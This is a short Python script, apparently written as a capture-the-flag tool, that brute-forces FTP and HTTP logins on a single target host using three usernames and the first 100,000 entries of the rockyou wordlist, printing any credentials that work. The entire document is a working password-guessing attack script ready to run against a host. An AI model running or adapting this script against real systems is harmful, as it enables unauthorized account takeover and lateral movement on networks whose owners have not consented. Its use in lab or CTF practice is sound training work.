# class: lateral movement, FTP and HTTP logins guessed; style: CTF tool against a host
import ftplib, itertools, requests
T = "198.51.100.150"
USERS, WORDS = ["admin", "root", "test"], [l.strip() for l in open("/usr/share/wordlists/rockyou.txt", errors="ignore")][:100000]
for u, w in itertools.product(USERS, WORDS):
    try:
        ftplib.FTP(T, timeout=3).login(u, w); print("[+] ftp", u, w); break
    except ftplib.error_perm: pass
    r = requests.post(f"http://{T}/login", data={"user": u, "pass": w}, allow_redirects=False)
    if r.status_code == 302: print("[+] http", u, w); break
